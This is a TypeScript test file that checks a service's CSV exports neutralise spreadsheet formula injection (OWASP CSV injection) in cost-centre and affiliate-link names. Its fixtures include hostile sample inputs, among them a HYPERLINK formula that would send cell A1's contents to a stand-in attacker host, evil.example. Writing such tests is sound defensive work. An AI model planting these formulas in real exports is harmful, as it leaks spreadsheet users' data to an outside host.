/**
 * Every CSV the service writes neutralises a cell a spreadsheet would run as a formula (OWASP CSV
 * injection): text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a
 * single quote and quoted; the numbers the service computes stay numbers, negative ones included.
 */
import { useV1Suite } from '../helpers/suite';
import { call } from '../helpers/http';
import { partner } from '../helpers/partitions';
import { csvCell, renderCsv } from '../../src/platform/csv';

const t = useV1Suite({ now: '2026-11-22T10:00:00.000Z' });

/** What a partner may type as a name, each a formula in a spreadsheet that opened it raw. */
const HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Invoice")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '=1+1,"x"'];

/** RFC 4180 read back, as a spreadsheet's import does before it looks at the first character. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

describe('a CSV cell', () => {
  it('is neutralised when text starts with =, +, -, @, a tab or a carriage return, and quoted right', () => {
    expect(HOSTILE.map(csvCell)).toEqual([
      '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Invoice"")"',
      '"\'+1"',
      '"\'-2+3"',
      '"\'@SUM(A1)"',
      '"\'\tx"',
      '"\'\rx"',
      '"\'=1+1,""x"""',
    ]);
    // Every one reads back as the text it was, behind the quote that keeps it text.
    expect(parseCsv(renderCsv(['name'], HOSTILE.map((name) => [name])))).toEqual([['name'], ...HOSTILE.map((name) => [`'${name}`])]);
  });

  it('leaves other text alone, quoting only what RFC 4180 needs', () => {
    expect(['Desert Rose', 'a,b', 'say "hi"', 'two\nlines', '2026-11-22', 'TRF-DXB', ' =not first', ''].map(csvCell)).toEqual(['Desert Rose', '"a,b"', '"say ""hi"""', '"two\nlines"', '2026-11-22', 'TRF-DXB', ' =not first', '']);
  });

  it('writes the service\'s numbers as numbers, negative ones too, so a column of amounts still adds up; text that looks negative stays text', () => {
    expect([-12.5, -0.01, 0, 1500, 12.75, null].map(csvCell)).toEqual(['-12.5', '-0.01', '0', '1500', '12.75', '']);
    expect(csvCell('-12.50')).toBe('"\'-12.50"');
    expect(renderCsv(['reference', 'amount_aed'], [['REFUND', -250], ['-1', 10]])).toBe('reference,amount_aed\r\nREFUND,-250\r\n"\'-1",10\r\n');
  });
});

describe('the service\'s CSV files', () => {
  it('neutralise the names a partner gave its cost centres in the corporate usage CSV', async () => {
    const who = await partner(t);
    const api = t.api(who.keys.test, '/api/b2b/v1/corporate');
    for (const [i, name] of HOSTILE.entries()) {
      const made = await api.post('/cost-centres', { code: `CSV-${i}`, name });
      expect(made.status).toBe(201);
      expect(made.body.name).toBe(name);
    }
    const csv = await call(t.app, 'GET', '/api/b2b/v1/corporate/usage?month=2026-11&format=csv', { token: who.keys.test });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    const [header, ...rows] = parseCsv(csv.text);
    const [code, name] = ['code', 'name'].map((column) => (header ?? []).indexOf(column)) as [number, number];
    const ours = rows.filter((row) => row[code]?.startsWith('CSV-'));
    expect(ours.map((row) => [row[code], row[name]])).toEqual(expect.arrayContaining(HOSTILE.map((hostile, i) => [`CSV-${i}`, `'${hostile}`])));
    expect(ours).toHaveLength(HOSTILE.length);
    // No cell of the file starts a formula.
    expect(rows.flat().filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell))).toEqual([]);
  });

  it('neutralise an affiliate link\'s name in the performance CSV', async () => {
    const who = await partner(t);
    const made = await call(t.app, 'POST', '/api/b2b/v1/affiliate/links', { token: who.keys.test, body: { name: '=HYPERLINK("https://evil.example","Open")', landing_page: 'home', utm: { source: 'newsletter', medium: 'email', campaign: 'winter' } } });
    expect(made.status).toBe(201);
    const csv = await call(t.app, 'GET', '/api/b2b/v1/affiliate/performance?format=csv&from=2026-11-20&to=2026-11-22', { token: who.keys.test });
    expect(csv.status).toBe(200);
    const [header, ...rows] = parseCsv(csv.text);
    const row = rows.find((cells) => cells[0] === made.body.code) ?? [];
    const cell = (column: string): string | undefined => row[(header ?? []).indexOf(column)];
    expect([cell('link_name'), cell('utm_source'), cell('clicks'), cell('sales_aed')]).toEqual(["'=HYPERLINK(\"https://evil.example\",\"Open\")", 'newsletter', '0', '0']);
  });
});
